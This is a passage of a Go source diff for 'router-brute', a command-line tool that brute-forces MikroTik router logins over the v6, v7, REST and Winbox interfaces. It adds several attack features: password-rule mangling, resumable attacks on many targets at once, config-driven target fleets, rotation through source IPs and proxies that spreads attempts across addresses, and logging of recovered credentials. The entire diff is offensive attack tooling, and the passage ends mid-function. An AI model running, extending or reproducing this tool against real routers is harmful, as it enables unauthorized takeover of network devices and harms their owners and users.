@@ -5,13 +5,19 @@ import (
 	"fmt"
 	"log"
 	"os"
+	"os/signal"
 	"strings"
+	"syscall"
 	"time"
 
 	"github.com/nimda/router-brute/internal/core"
+	"github.com/nimda/router-brute/internal/core/dialer"
+	"github.com/nimda/router-brute/internal/core/output"
+	"github.com/nimda/router-brute/internal/core/rules"
 	"github.com/nimda/router-brute/internal/modules/mikrotik/v6"
 	"github.com/nimda/router-brute/internal/modules/mikrotik/v7"
 	"github.com/nimda/router-brute/internal/modules/mikrotik/v7/rest"
+	"github.com/nimda/router-brute/internal/modules/mikrotik/winbox"
 	"github.com/rs/zerolog"
 	zlog "github.com/rs/zerolog/log"
 	"github.com/spf13/cobra"
@@ -20,8 +26,20 @@ import (
 var (
 	debugMode bool
 	traceMode bool
+
+	outputPath   string
+	outputFormat string
+	progressPath string
+
+	// runCtx is cancelled on SIGINT/SIGTERM so in-flight multi-target runs can
+	// flush a final checkpoint and exit cleanly instead of being killed outright.
+	runCtx context.Context
 )
 
+// progressReportInterval is how often a progress record is emitted while a
+// run is in flight.
+const progressReportInterval = 1 * time.Second
+
 var rootCmd = &cobra.Command{
 	Use:   "router-brute",
 	Short: "Router Brute-forcing Tool",
@@ -56,10 +74,31 @@ var mikrotikV7RestCmd = &cobra.Command{
 	Run:   runMikrotikV7Rest,
 }
 
+var mikrotikWinboxCmd = &cobra.Command{
+	Use:   "mikrotik-winbox",
+	Short: "Brute force MikroTik Winbox (TCP/8291)",
+	Run:   runMikrotikWinbox,
+}
+
+var runCmd = &cobra.Command{
+	Use:   "run",
+	Short: "Drive a (possibly heterogeneous) fleet of targets from a --config file",
+	Run:   runFromConfig,
+}
+
+var validateConfigCmd = &cobra.Command{
+	Use:   "validate-config",
+	Short: "Parse a --config file and print the effective attack plan without dialing anything",
+	Run:   runValidateConfig,
+}
+
 func init() {
 	// Global flags
 	rootCmd.PersistentFlags().BoolVar(&debugMode, "debug", false, "Enable debug logging")
 	rootCmd.PersistentFlags().BoolVar(&traceMode, "trace", false, "Enable trace logging")
+	rootCmd.PersistentFlags().StringVar(&outputPath, "output", "", "Write structured attempt results to this file")
+	rootCmd.PersistentFlags().StringVar(&outputFormat, "output-format", "jsonl", "Format for --output: jsonl, ndjson, or csv")
+	rootCmd.PersistentFlags().StringVar(&progressPath, "progress-file", "", "Write periodic progress records (jsonl) to this file")
 
 	// mikrotik-v6 flags
 	mikrotikV6Cmd.Flags().String("target", "", "Router IP address or hostname")
@@ -71,6 +110,15 @@ func init() {
 	mikrotikV6Cmd.Flags().String("timeout", "10s", "Connection timeout")
 	mikrotikV6Cmd.Flags().String("target-file", "", "File containing target specifications (multi-target mode)")
 	mikrotikV6Cmd.Flags().Int("concurrent-targets", 1, "Number of targets to attack simultaneously")
+	mikrotikV6Cmd.Flags().String("checkpoint", "", "Append-only JSONL checkpoint file for resuming multi-target runs")
+	mikrotikV6Cmd.Flags().Bool("resume", false, "Resume a multi-target run from --checkpoint, skipping completed targets")
+	mikrotikV6Cmd.Flags().Int("checkpoint-interval", 10, "Attempts between checkpoint flushes for a target")
+	mikrotikV6Cmd.Flags().String("rules", "", "Path to a hashcat-style rule file to mangle the wordlist with")
+	mikrotikV6Cmd.Flags().StringArray("rule", nil, "A single rule expression to mangle the wordlist with (repeatable)")
+	mikrotikV6Cmd.Flags().StringArray("source-ip", nil, "A local source IP to dial from, for outbound address rotation (repeatable)")
+	mikrotikV6Cmd.Flags().StringArray("proxy", nil, "A socks5://, socks5h://, or http:// proxy URL to rotate through (repeatable)")
+	mikrotikV6Cmd.Flags().String("proxy-file", "", "Path to a file of proxy URLs, one per line, to rotate through")
+	mikrotikV6Cmd.Flags().String("proxy-strategy", "round-robin", "How to rotate source IPs/proxies: round-robin or random")
 
 	if err := mikrotikV6Cmd.MarkFlagRequired("target"); err != nil {
 		log.Fatalf("Failed to mark target flag as required: %v", err)
@@ -89,6 +137,15 @@ func init() {
 	mikrotikV7Cmd.Flags().String("timeout", "10s", "Connection timeout")
 	mikrotikV7Cmd.Flags().String("target-file", "", "File containing target specifications (multi-target mode)")
 	mikrotikV7Cmd.Flags().Int("concurrent-targets", 1, "Number of targets to attack simultaneously")
+	mikrotikV7Cmd.Flags().String("checkpoint", "", "Append-only JSONL checkpoint file for resuming multi-target runs")
+	mikrotikV7Cmd.Flags().Bool("resume", false, "Resume a multi-target run from --checkpoint, skipping completed targets")
+	mikrotikV7Cmd.Flags().Int("checkpoint-interval", 10, "Attempts between checkpoint flushes for a target")
+	mikrotikV7Cmd.Flags().String("rules", "", "Path to a hashcat-style rule file to mangle the wordlist with")
+	mikrotikV7Cmd.Flags().StringArray("rule", nil, "A single rule expression to mangle the wordlist with (repeatable)")
+	mikrotikV7Cmd.Flags().StringArray("source-ip", nil, "A local source IP to dial from, for outbound address rotation (repeatable)")
+	mikrotikV7Cmd.Flags().StringArray("proxy", nil, "A socks5://, socks5h://, or http:// proxy URL to rotate through (repeatable)")
+	mikrotikV7Cmd.Flags().String("proxy-file", "", "Path to a file of proxy URLs, one per line, to rotate through")
+	mikrotikV7Cmd.Flags().String("proxy-strategy", "round-robin", "How to rotate source IPs/proxies: round-robin or random")
 
 	if err := mikrotikV7Cmd.MarkFlagRequired("target"); err != nil {
 		log.Fatalf("Failed to mark target flag as required: %v", err)
@@ -108,6 +165,15 @@ func init() {
 	mikrotikV7RestCmd.Flags().String("timeout", "10s", "Connection timeout")
 	mikrotikV7RestCmd.Flags().String("target-file", "", "File containing target specifications (multi-target mode)")
 	mikrotikV7RestCmd.Flags().Int("concurrent-targets", 1, "Number of targets to attack simultaneously")
+	mikrotikV7RestCmd.Flags().String("checkpoint", "", "Append-only JSONL checkpoint file for resuming multi-target runs")
+	mikrotikV7RestCmd.Flags().Bool("resume", false, "Resume a multi-target run from --checkpoint, skipping completed targets")
+	mikrotikV7RestCmd.Flags().Int("checkpoint-interval", 10, "Attempts between checkpoint flushes for a target")
+	mikrotikV7RestCmd.Flags().String("rules", "", "Path to a hashcat-style rule file to mangle the wordlist with")
+	mikrotikV7RestCmd.Flags().StringArray("rule", nil, "A single rule expression to mangle the wordlist with (repeatable)")
+	mikrotikV7RestCmd.Flags().StringArray("source-ip", nil, "A local source IP to dial from, for outbound address rotation (repeatable)")
+	mikrotikV7RestCmd.Flags().StringArray("proxy", nil, "A socks5://, socks5h://, or http:// proxy URL to rotate through (repeatable)")
+	mikrotikV7RestCmd.Flags().String("proxy-file", "", "Path to a file of proxy URLs, one per line, to rotate through")
+	mikrotikV7RestCmd.Flags().String("proxy-strategy", "round-robin", "How to rotate source IPs/proxies: round-robin or random")
 
 	if err := mikrotikV7RestCmd.MarkFlagRequired("target"); err != nil {
 		log.Fatalf("Failed to mark target flag as required: %v", err)
@@ -116,12 +182,58 @@ func init() {
 		log.Fatalf("Failed to mark wordlist flag as required: %v", err)
 	}
 
+	// mikrotik-winbox flags
+	mikrotikWinboxCmd.Flags().String("target", "", "Router IP address or hostname")
+	mikrotikWinboxCmd.Flags().String("user", "admin", "Username to test")
+	mikrotikWinboxCmd.Flags().String("wordlist", "", "Path to password wordlist file")
+	mikrotikWinboxCmd.Flags().Int("workers", 5, "Number of concurrent workers")
+	mikrotikWinboxCmd.Flags().String("rate", "100ms", "Rate limit between attempts")
+	mikrotikWinboxCmd.Flags().Int("port", 8291, "Winbox port")
+	mikrotikWinboxCmd.Flags().String("timeout", "10s", "Connection timeout")
+	mikrotikWinboxCmd.Flags().String("target-file", "", "File containing target specifications (multi-target mode)")
+	mikrotikWinboxCmd.Flags().Int("concurrent-targets", 1, "Number of targets to attack simultaneously")
+	mikrotikWinboxCmd.Flags().String("checkpoint", "", "Append-only JSONL checkpoint file for resuming multi-target runs")
+	mikrotikWinboxCmd.Flags().Bool("resume", false, "Resume a multi-target run from --checkpoint, skipping completed targets")
+	mikrotikWinboxCmd.Flags().Int("checkpoint-interval", 10, "Attempts between checkpoint flushes for a target")
+	mikrotikWinboxCmd.Flags().String("rules", "", "Path to a hashcat-style rule file to mangle the wordlist with")
+	mikrotikWinboxCmd.Flags().StringArray("rule", nil, "A single rule expression to mangle the wordlist with (repeatable)")
+	mikrotikWinboxCmd.Flags().StringArray("source-ip", nil, "A local source IP to dial from, for outbound address rotation (repeatable)")
+	mikrotikWinboxCmd.Flags().StringArray("proxy", nil, "A socks5://, socks5h://, or http:// proxy URL to rotate through (repeatable)")
+	mikrotikWinboxCmd.Flags().String("proxy-file", "", "Path to a file of proxy URLs, one per line, to rotate through")
+	mikrotikWinboxCmd.Flags().String("proxy-strategy", "round-robin", "How to rotate source IPs/proxies: round-robin or random")
+
+	if err := mikrotikWinboxCmd.MarkFlagRequired("target"); err != nil {
+		log.Fatalf("Failed to mark target flag as required: %v", err)
+	}
+	if err := mikrotikWinboxCmd.MarkFlagRequired("wordlist"); err != nil {
+		log.Fatalf("Failed to mark wordlist flag as required: %v", err)
+	}
+
+	// run flags
+	runCmd.Flags().String("config", "", "Path to a YAML or TOML run config")
+	if err := runCmd.MarkFlagRequired("config"); err != nil {
+		log.Fatalf("Failed to mark config flag as required: %v", err)
+	}
+
+	// validate-config flags
+	validateConfigCmd.Flags().String("config", "", "Path to a YAML or TOML run config to validate")
+	if err := validateConfigCmd.MarkFlagRequired("config"); err != nil {
+		log.Fatalf("Failed to mark config flag as required: %v", err)
+	}
+
 	rootCmd.AddCommand(mikrotikV6Cmd)
 	rootCmd.AddCommand(mikrotikV7Cmd)
 	rootCmd.AddCommand(mikrotikV7RestCmd)
+	rootCmd.AddCommand(mikrotikWinboxCmd)
+	rootCmd.AddCommand(runCmd)
+	rootCmd.AddCommand(validateConfigCmd)
 }
 
 func main() {
+	ctx, cancel := signal.NotifyContext(context.Background(), syscall.SIGINT, syscall.SIGTERM)
+	defer cancel()
+	runCtx = ctx
+
 	if err := rootCmd.Execute(); err != nil {
 		os.Exit(1)
 	}
@@ -137,6 +249,11 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 	timeout, _ := cmd.Flags().GetString("timeout")
 	targetFile, _ := cmd.Flags().GetString("target-file")
 	concurrentTargets, _ := cmd.Flags().GetInt("concurrent-targets")
+	checkpointPath, _ := cmd.Flags().GetString("checkpoint")
+	resume, _ := cmd.Flags().GetBool("resume")
+	checkpointInterval, _ := cmd.Flags().GetInt("checkpoint-interval")
+	rulesPath, _ := cmd.Flags().GetString("rules")
+	ruleExprs, _ := cmd.Flags().GetStringArray("rule")
 
 	zlog.Debug().Msg("Starting runMikrotikV6 function")
 	zlog.Debug().
@@ -162,11 +279,21 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 	}
 
 	zlog.Debug().Str("wordlist", wordlist).Msg("Loading passwords from")
-	passwords, err := loadPasswords(wordlist)
+	baseWords, err := loadPasswords(wordlist)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
-	zlog.Debug().Int("n", len(passwords)).Msg("Loaded n passwords")
+	ruleSet, err := buildRuleSet(rulesPath, ruleExprs)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load rules")
+	}
+	passwordTotal := ruleSet.Total(len(baseWords))
+	zlog.Debug().Int("n", passwordTotal).Msg("Loaded n passwords")
+
+	dialerInstance, err := buildDialer(cmd, timeoutDuration)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to configure dialer")
+	}
 
 	// Validate that either target or target-file is specified, but not both
 	if targetFile != "" && target != "" {
@@ -176,7 +303,7 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 	if targetFile != "" {
 		// Multi-target mode
 		zlog.Info().Str("file", targetFile).Msg("Running in multi-target mode")
-		runMultiTargetV6(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets)
+		runMultiTargetV6(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets, checkpointPath, resume, checkpointInterval, rulesPath, ruleExprs, dialerInstance)
 		return
 	}
 
@@ -187,24 +314,28 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 
 	zlog.Info().
 		Str("target", target).
-		Int("passwords", len(passwords)).
+		Int("passwords", passwordTotal).
 		Int("workers", workers).
 		Str("rate", rateLimit).
 		Msg("Starting attack")
 
 	zlog.Debug().Msg("Creating Mikrotik v6 module")
 	module := v6.NewMikrotikV6Module()
-	if err := module.Initialize(target, user, map[string]interface{}{
+	moduleOptions := map[string]interface{}{
 		"port":    port,
 		"timeout": timeoutDuration,
-	}); err != nil {
+	}
+	if dialerInstance != nil {
+		moduleOptions["dialer"] = dialerInstance
+	}
+	if err := module.Initialize(target, user, moduleOptions); err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to initialize Mikrotik v6 module")
 	}
 
 	zlog.Debug().Int("workers", workers).Dur("ratelimit", rateDuration).Msg("Creating engine")
 	engine := core.NewEngine(workers, rateDuration)
 	engine.SetModule(module)
-	engine.LoadPasswords(passwords)
+	engine.LoadPasswordSource(ruleSet.Source(baseWords), passwordTotal)
 
 	zlog.Debug().Msg("Starting engine...")
 	if err := engine.Start(); err != nil {
@@ -212,9 +343,15 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 	}
 	zlog.Debug().Msg("Engine started successfully")
 
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
 	zlog.Debug().Msg("Waiting for results...")
+	startTime := time.Now()
 	successCount := 0
 	totalAttempts := 0
+	lastProgress := time.Time{}
 
 	for result := range engine.Results() {
 		totalAttempts++
@@ -224,6 +361,8 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 			Dur("elapsed", result.TimeConsumed).
 			Msg("Received result")
 
+		writeResultRecord(resultSink, port, totalAttempts, result)
+
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -241,8 +380,9 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 
 		if totalAttempts%10 == 0 {
 			progress := engine.Progress() * 100
-			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, len(passwords))
+			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, passwordTotal)
 		}
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, totalAttempts, 1, 0, successCount)
 	}
 
 	zlog.Debug().
@@ -257,6 +397,7 @@ func runMikrotikV6(cmd *cobra.Command, args []string) {
 	if successCount == 0 {
 		zlog.Info().Msg("No valid credentials found")
 	}
+	writeSummaryRecord(resultSink, module.GetProtocolName(), 1, totalAttempts, successCount, time.Since(startTime))
 	zlog.Debug().Msg("runMikrotikV6 function completed")
 }
 
@@ -270,6 +411,11 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 	timeout, _ := cmd.Flags().GetString("timeout")
 	targetFile, _ := cmd.Flags().GetString("target-file")
 	concurrentTargets, _ := cmd.Flags().GetInt("concurrent-targets")
+	checkpointPath, _ := cmd.Flags().GetString("checkpoint")
+	resume, _ := cmd.Flags().GetBool("resume")
+	checkpointInterval, _ := cmd.Flags().GetInt("checkpoint-interval")
+	rulesPath, _ := cmd.Flags().GetString("rules")
+	ruleExprs, _ := cmd.Flags().GetStringArray("rule")
 
 	zlog.Debug().Msg("Starting runMikrotikV7 function")
 	zlog.Debug().
@@ -295,11 +441,21 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 	}
 
 	zlog.Debug().Str("wordlist", wordlist).Msg("Loading passwords from")
-	passwords, err := loadPasswords(wordlist)
+	baseWords, err := loadPasswords(wordlist)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
-	zlog.Debug().Int("n", len(passwords)).Msg("Loaded n passwords")
+	ruleSet, err := buildRuleSet(rulesPath, ruleExprs)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load rules")
+	}
+	passwordTotal := ruleSet.Total(len(baseWords))
+	zlog.Debug().Int("n", passwordTotal).Msg("Loaded n passwords")
+
+	dialerInstance, err := buildDialer(cmd, timeoutDuration)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to configure dialer")
+	}
 
 	// Validate that either target or target-file is specified, but not both
 	if targetFile != "" && target != "" {
@@ -309,7 +465,7 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 	if targetFile != "" {
 		// Multi-target mode
 		zlog.Info().Str("file", targetFile).Msg("Running in multi-target mode")
-		runMultiTargetV7(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets)
+		runMultiTargetV7(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets, checkpointPath, resume, checkpointInterval, rulesPath, ruleExprs, dialerInstance)
 		return
 	}
 
@@ -320,24 +476,28 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 
 	zlog.Info().
 		Str("target", target).
-		Int("passwords", len(passwords)).
+		Int("passwords", passwordTotal).
 		Int("workers", workers).
 		Str("rate", rateLimit).
 		Msg("Starting RouterOS v7 attack")
 
 	zlog.Debug().Msg("Creating Mikrotik v7 module")
 	module := v7.NewMikrotikV7Module()
-	if err := module.Initialize(target, user, map[string]interface{}{
+	moduleOptions := map[string]interface{}{
 		"port":    port,
 		"timeout": timeoutDuration,
-	}); err != nil {
+	}
+	if dialerInstance != nil {
+		moduleOptions["dialer"] = dialerInstance
+	}
+	if err := module.Initialize(target, user, moduleOptions); err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to initialize Mikrotik v7 module")
 	}
 
 	zlog.Debug().Int("workers", workers).Dur("ratelimit", rateDuration).Msg("Creating engine")
 	engine := core.NewEngine(workers, rateDuration)
 	engine.SetModule(module)
-	engine.LoadPasswords(passwords)
+	engine.LoadPasswordSource(ruleSet.Source(baseWords), passwordTotal)
 
 	zlog.Debug().Msg("Starting engine...")
 	if err := engine.Start(); err != nil {
@@ -345,9 +505,15 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 	}
 	zlog.Debug().Msg("Engine started successfully")
 
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
 	zlog.Debug().Msg("Waiting for results...")
+	startTime := time.Now()
 	successCount := 0
 	totalAttempts := 0
+	lastProgress := time.Time{}
 
 	for result := range engine.Results() {
 		totalAttempts++
@@ -357,6 +523,8 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 			Dur("elapsed", result.TimeConsumed).
 			Msg("Received result")
 
+		writeResultRecord(resultSink, port, totalAttempts, result)
+
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -374,8 +542,9 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 
 		if totalAttempts%10 == 0 {
 			progress := engine.Progress() * 100
-			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, len(passwords))
+			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, passwordTotal)
 		}
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, totalAttempts, 1, 0, successCount)
 	}
 
 	zlog.Debug().
@@ -390,6 +559,7 @@ func runMikrotikV7(cmd *cobra.Command, args []string) {
 	if successCount == 0 {
 		zlog.Info().Msg("No valid credentials found")
 	}
+	writeSummaryRecord(resultSink, module.GetProtocolName(), 1, totalAttempts, successCount, time.Since(startTime))
 	zlog.Debug().Msg("runMikrotikV7 function completed")
 }
 
@@ -404,6 +574,11 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 	timeout, _ := cmd.Flags().GetString("timeout")
 	targetFile, _ := cmd.Flags().GetString("target-file")
 	concurrentTargets, _ := cmd.Flags().GetInt("concurrent-targets")
+	checkpointPath, _ := cmd.Flags().GetString("checkpoint")
+	resume, _ := cmd.Flags().GetBool("resume")
+	checkpointInterval, _ := cmd.Flags().GetInt("checkpoint-interval")
+	rulesPath, _ := cmd.Flags().GetString("rules")
+	ruleExprs, _ := cmd.Flags().GetStringArray("rule")
 
 	zlog.Debug().Msg("Starting runMikrotikV7Rest function")
 	zlog.Debug().
@@ -430,11 +605,21 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 	}
 
 	zlog.Debug().Str("wordlist", wordlist).Msg("Loading passwords from")
-	passwords, err := loadPasswords(wordlist)
+	baseWords, err := loadPasswords(wordlist)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
-	zlog.Debug().Int("n", len(passwords)).Msg("Loaded n passwords")
+	ruleSet, err := buildRuleSet(rulesPath, ruleExprs)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to load rules")
+	}
+	passwordTotal := ruleSet.Total(len(baseWords))
+	zlog.Debug().Int("n", passwordTotal).Msg("Loaded n passwords")
+
+	dialerInstance, err := buildDialer(cmd, timeoutDuration)
+	if err != nil {
+		zlog.Fatal().Err(err).Msg("Failed to configure dialer")
+	}
 
 	// Validate that either target or target-file is specified, but not both
 	if targetFile != "" && target != "" {
@@ -444,7 +629,7 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 	if targetFile != "" {
 		// Multi-target mode
 		zlog.Info().Str("file", targetFile).Msg("Running in multi-target mode")
-		runMultiTargetV7Rest(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets, useHTTPS)
+		runMultiTargetV7Rest(targetFile, wordlist, user, port, timeoutDuration, workers, rateDuration, concurrentTargets, useHTTPS, checkpointPath, resume, checkpointInterval, rulesPath, ruleExprs, dialerInstance)
 		return
 	}
 
@@ -455,25 +640,29 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 
 	zlog.Info().
 		Str("target", target).
-		Int("passwords", len(passwords)).
+		Int("passwords", passwordTotal).
 		Int("workers", workers).
 		Str("rate", rateLimit).
 		Msg("Starting RouterOS v7 REST API attack")
 
 	zlog.Debug().Msg("Creating Mikrotik v7 REST module")
 	module := rest.NewMikrotikV7RestModule()
-	if err := module.Initialize(target, user, map[string]interface{}{
+	moduleOptions := map[string]interface{}{
 		"port":    port,
 		"https":   useHTTPS,
 		"timeout": timeoutDuration,
-	}); err != nil {
+	}
+	if dialerInstance != nil {
+		moduleOptions["dialer"] = dialerInstance
+	}
+	if err := module.Initialize(target, user, moduleOptions); err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to initialize Mikrotik v7 REST module")
 	}
 
 	zlog.Debug().Int("workers", workers).Dur("ratelimit", rateDuration).Msg("Creating engine")
 	engine := core.NewEngine(workers, rateDuration)
 	engine.SetModule(module)
-	engine.LoadPasswords(passwords)
+	engine.LoadPasswordSource(ruleSet.Source(baseWords), passwordTotal)
 
 	zlog.Debug().Msg("Starting engine...")
 	if err := engine.Start(); err != nil {
@@ -481,9 +670,15 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 	}
 	zlog.Debug().Msg("Engine started successfully")
 
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
+
 	zlog.Debug().Msg("Waiting for results...")
+	startTime := time.Now()
 	successCount := 0
 	totalAttempts := 0
+	lastProgress := time.Time{}
 
 	for result := range engine.Results() {
 		totalAttempts++
@@ -493,6 +688,8 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 			Dur("elapsed", result.TimeConsumed).
 			Msg("Received result")
 
+		writeResultRecord(resultSink, port, totalAttempts, result)
+
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -510,8 +707,9 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 
 		if totalAttempts%10 == 0 {
 			progress := engine.Progress() * 100
-			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, len(passwords))
+			fmt.Printf("Progress: %.1f%% (%d/%d attempts)\r", progress, totalAttempts, passwordTotal)
 		}
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, totalAttempts, 1, 0, successCount)
 	}
 
 	zlog.Debug().
@@ -526,11 +724,14 @@ func runMikrotikV7Rest(cmd *cobra.Command, args []string) {
 	if successCount == 0 {
 		zlog.Info().Msg("No valid credentials found")
 	}
+	writeSummaryRecord(resultSink, module.GetProtocolName(), 1, totalAttempts, successCount, time.Since(startTime))
 	zlog.Debug().Msg("runMikrotikV7Rest function completed")
 }
 
 func runMultiTargetV6(targetFile, wordlist, user string, port int, timeout time.Duration,
-	workers int, rateLimit time.Duration, concurrentTargets int) {
+	workers int, rateLimit time.Duration, concurrentTargets int,
+	checkpointPath string, resume bool, checkpointInterval int,
+	rulesPath string, ruleExprs []string, dialerInstance *dialer.Dialer) {
 
 	zlog.Info().Str("file", targetFile).Msg("Loading targets for multi-target attack")
 
@@ -545,8 +746,14 @@ func runMultiTargetV6(targetFile, wordlist, user string, port int, timeout time.
 		zlog.Fatal().Msg("No valid targets found in file")
 	}
 
+	targets, resumeRecords := prepareCheckpointing(checkpointPath, resume, targets)
+	if len(targets) == 0 {
+		zlog.Info().Msg("All targets already completed per checkpoint, nothing to do")
+		return
+	}
+
 	// Load passwords
-	passwords, err := loadPasswords(wordlist)
+	passwords, err := loadExpandedPasswords(wordlist, rulesPath, ruleExprs)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
@@ -554,18 +761,38 @@ func runMultiTargetV6(targetFile, wordlist, user string, port int, timeout time.
 	// Create multi-target engine
 	factory := &v6.MikrotikV6Factory{}
 	engine := core.NewMultiTargetEngine(factory, workers, concurrentTargets, rateLimit)
+	engine.SetDialer(dialerInstance)
 	engine.LoadTargets(targets)
 	engine.LoadPasswords(passwords)
+	if resumeRecords != nil {
+		engine.SetResumeCheckpoints(resumeRecords)
+	}
+
+	checkpointWriter := openCheckpointWriter(checkpointPath)
+	if checkpointWriter != nil {
+		defer checkpointWriter.Close()
+		engine.SetCheckpointWriter(checkpointWriter, checkpointInterval)
+	}
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
 
 	// Start attack
-	ctx, cancel := context.WithCancel(context.Background())
+	startTime := time.Now()
+	ctx, cancel := context.WithCancel(runCtx)
 	defer cancel()
 
 	engine.Start(ctx)
 
 	// Process results
 	successCount := 0
+	targetsCompleted := 0
+	attemptIdx := 0
+	lastProgress := time.Time{}
 	for result := range engine.GetResults() {
+		targetsCompleted++
+		attemptIdx += result.Attempts
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -574,6 +801,16 @@ func runMultiTargetV6(targetFile, wordlist, user string, port int, timeout time.
 				Str("password", result.SuccessPassword).
 				Msg("✓ Found valid credentials")
 		}
+		writeResultRecord(resultSink, result.Target.Port, attemptIdx, core.Result{
+			Username:     result.Target.Username,
+			Password:     result.SuccessPassword,
+			Success:      result.Success,
+			ModuleName:   factory.GetProtocolName(),
+			Target:       result.Target.IP,
+			TimeConsumed: result.EndTime.Sub(result.StartTime),
+			AttemptedAt:  result.EndTime,
+		})
+		lastProgress = maybeWriteProgress(progressSink, lastProgress, attemptIdx, len(targets), targetsCompleted, successCount)
 	}
 
 	// Process errors
@@ -591,10 +828,13 @@ func runMultiTargetV6(targetFile, wordlist, user string, port int, timeout time.
 		Int("successful", successCount).
 		Int("failed", errorCount).
 		Msg("Multi-target attack summary")
+	writeSummaryRecord(resultSink, factory.GetProtocolName(), len(targets), attemptIdx, successCount, time.Since(startTime))
 }
 
 func runMultiTargetV7(targetFile, wordlist, user string, port int, timeout time.Duration,
-	workers int, rateLimit time.Duration, concurrentTargets int) {
+	workers int, rateLimit time.Duration, concurrentTargets int,
+	checkpointPath string, resume bool, checkpointInterval int,
+	rulesPath string, ruleExprs []string, dialerInstance *dialer.Dialer) {
 
 	zlog.Info().Str("file", targetFile).Msg("Loading targets for multi-target attack")
 
@@ -609,8 +849,14 @@ func runMultiTargetV7(targetFile, wordlist, user string, port int, timeout time.
 		zlog.Fatal().Msg("No valid targets found in file")
 	}
 
+	targets, resumeRecords := prepareCheckpointing(checkpointPath, resume, targets)
+	if len(targets) == 0 {
+		zlog.Info().Msg("All targets already completed per checkpoint, nothing to do")
+		return
+	}
+
 	// Load passwords
-	passwords, err := loadPasswords(wordlist)
+	passwords, err := loadExpandedPasswords(wordlist, rulesPath, ruleExprs)
 	if err != nil {
 		zlog.Fatal().Err(err).Msg("Failed to load wordlist")
 	}
@@ -618,18 +864,38 @@ func runMultiTargetV7(targetFile, wordlist, user string, port int, timeout time.
 	// Create multi-target engine
 	factory := &v7.MikrotikV7Factory{}
 	engine := core.NewMultiTargetEngine(factory, workers, concurrentTargets, rateLimit)
+	engine.SetDialer(dialerInstance)
 	engine.LoadTargets(targets)
 	engine.LoadPasswords(passwords)
+	if resumeRecords != nil {
+		engine.SetResumeCheckpoints(resumeRecords)
+	}
+
+	checkpointWriter := openCheckpointWriter(checkpointPath)
+	if checkpointWriter != nil {
+		defer checkpointWriter.Close()
+		engine.SetCheckpointWriter(checkpointWriter, checkpointInterval)
+	}
+
+	resultSink, progressSink := openOutputSinks()
+	defer resultSink.Close()
+	defer progressSink.Close()
 
 	// Start attack
-	ctx, cancel := context.WithCancel(context.Background())
+	startTime := time.Now()
+	ctx, cancel := context.WithCancel(runCtx)
 	defer cancel()
 
 	engine.Start(ctx)
 
 	// Process results
 	successCount := 0
+	targetsCompleted := 0
+	attemptIdx := 0
+	lastProgress := time.Time{}
 	for result := range engine.GetResults() {
+		targetsCompleted++
+		attemptIdx += result.Attempts
 		if result.Success {
 			successCount++
 			zlog.Info().
@@ -638,6 +904,16 @@ func runMultiTargetV7(targetFile, wordlist, user string, port int, timeout time.
 				Str("password", result.SuccessPassword).
 				Msg("✓ Found valid credentials")
 		}
+		writeResultRecord(resultSink, result.Target.Port, attemptIdx, core.Result{
+			Username:     result.Target.Username,
+			Password:     result.SuccessPassword,
+			Success:      result.Success,
+			ModuleName:   factory.GetProtocolName(),
+			Target:       result.Target.IP,
